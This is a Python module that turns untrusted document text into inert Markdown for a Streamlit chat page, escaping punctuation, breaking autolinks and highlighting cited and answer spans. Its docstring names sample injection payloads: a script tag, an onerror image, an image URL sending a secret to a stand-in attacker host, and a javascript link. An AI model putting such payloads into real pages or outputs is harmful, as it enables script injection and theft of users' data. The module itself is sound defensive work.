"""Turn untrusted document text into inert Markdown, with one span highlighted.

The chat page shows passages, answers and whole documents through Streamlit's
Markdown renderer, because that is the only safe way it offers to colour part of a
text. Document text is untrusted (an uploaded file can contain ``<script>``,
``<img onerror=...>``, ``![x](http://attacker/?q=secret)`` or ``[click](javascript:...)``),
so every ASCII punctuation character of it is backslash-escaped first
(:func:`escape_markdown`). In CommonMark an escaped punctuation character is always
a literal character: no HTML, link, image, emphasis, heading, list, code, entity,
``$`` maths or ``:colour[...]`` directive can start from document text. Bare URLs
(which GFM links after parsing, escapes or not) get an invisible word joiner.
Only after escaping do we add our own markup: a ``:yellow-background[...]``
directive around the cited span and, inside it, ``:orange-background[**...**]``
around the words that answer (never HTML, so the page needs no
``unsafe_allow_html``).

This module produces strings only; it does not import Streamlit or render anything.
"""

from __future__ import annotations

import re
import string
from dataclasses import dataclass

HIGHLIGHT = "yellow-background"
ANSWER_HIGHLIGHT = "orange-background"  # the short answer, inside the cited span

_PUNCTUATION = frozenset(string.punctuation)  # exactly the ASCII punctuation CommonMark escapes
WORD_JOINER = "\u2060"  # invisible, and not a character an autolink may start after
# GFM turns bare URLs and e-mail addresses into links *after* parsing, so escapes do
# not stop it; an invisible word joiner inside "http:", "www." and "a@b" does.
_AUTOLINK = re.compile(r"(?<=:)(?=//)|(?<=\bwww)(?=\.)|(?<=@)", re.I)
_LINE_BREAK = re.compile(r"(?<!\n)\n(?!\n)")
_WORDS = re.compile(r"\s*\S+")


@dataclass(frozen=True)
class Segments:
    """A text cut in three around a span: ``before + quote + after == text``."""

    before: str
    quote: str
    after: str


def split_span(text: str, start: int, end: int) -> Segments:
    """Cut *text* at ``[start, end)``; offsets are clamped into the text."""
    start = max(0, min(start, len(text)))
    end = max(start, min(end, len(text)))
    return Segments(text[:start], text[start:end], text[end:])


def escape_markdown(text: str) -> str:
    """*text* as Markdown that renders literally: no markup, links, images or autolinks.

    Every ASCII punctuation character is backslash-escaped, and a word joiner
    (U+2060, invisible) breaks bare URLs and e-mail addresses.
    """
    text = _AUTOLINK.sub(WORD_JOINER, text)
    return "".join("\\" + ch if ch in _PUNCTUATION else ch for ch in text)


def _mark(part: str, style: str | None, strong: bool) -> str:
    """One line of a piece, escaped, inside our directive when it is marked."""
    escaped = escape_markdown(part)
    if style is None or not part.strip():
        return escaped
    if not strong:
        return f":{style}[{escaped}]"
    # Bold cannot open after or close before a blank, so blanks stay outside the stars.
    core = part.strip()
    lead, trail = part[: part.index(core)], part[part.index(core) + len(core) :]
    return f"{lead}:{style}[**{escape_markdown(core)}**]{trail}"


def _pieces_to_markdown(pieces: list[tuple[str, str | None, bool]]) -> str:
    """Inert Markdown of consecutive (text, directive style or None, bold) pieces."""
    out: list[str] = []
    line_start = True
    for text, style, strong in pieces:
        for raw in re.split(r"(\n)", text):
            if raw == "\n":
                out.append("\n")
                line_start = True
                continue
            # Leading blanks would turn a line into a code block.
            part = raw.lstrip(" \t") if line_start else raw
            if not part:
                continue
            # A directive cannot span lines, so each marked line gets its own.
            out.append(_mark(part, style, strong))
            line_start = False
    # A single newline becomes a hard break (Markdown would join the lines);
    # blank lines stay paragraph breaks.
    return _LINE_BREAK.sub("  \n", "".join(out))


def text_markdown(text: str) -> str:
    """Inert Markdown that displays *text* as it is (line breaks kept)."""
    return _pieces_to_markdown([(text, None, False)])


def highlight_markdown(
    text: str,
    start: int,
    end: int,
    style: str = HIGHLIGHT,
    *,
    answer: tuple[int, int] | None = None,
) -> str:
    """Inert Markdown of *text* with ``text[start:end]`` highlighted.

    *style* is a Streamlit colour directive name such as ``orange-background``.
    *answer*, offsets in *text* like *start* and *end*, marks the words that answer
    more strongly (:data:`ANSWER_HIGHLIGHT`, bold); it is clipped to the span and
    ignored when None or blank.
    """
    seg = split_span(text, start, end)
    inner = _inner_span(seg, answer)
    if inner is None:
        return _pieces_to_markdown(
            [(seg.before, None, False), (seg.quote, style, False), (seg.after, None, False)]
        )
    words = split_span(seg.quote, *inner)
    return _pieces_to_markdown(
        [
            (seg.before, None, False),
            (words.before, style, False),
            (words.quote, ANSWER_HIGHLIGHT, True),
            (words.after, style, False),
            (seg.after, None, False),
        ]
    )


def _inner_span(seg: Segments, answer: tuple[int, int] | None) -> tuple[int, int] | None:
    """*answer* as offsets into ``seg.quote``, or None when there is nothing to mark."""
    if answer is None:
        return None
    offset = len(seg.before)
    start = max(0, min(answer[0] - offset, len(seg.quote)))
    end = max(start, min(answer[1] - offset, len(seg.quote)))
    return (start, end) if seg.quote[start:end].strip() else None


def stream_pieces(text: str) -> list[str]:
    """*text* cut into word-sized pieces (each with its leading space) for streaming.

    ``"".join(stream_pieces(t)) == t`` apart from trailing whitespace, and a
    ``[n]`` marker is never cut in two.
    """
    return _WORDS.findall(text)
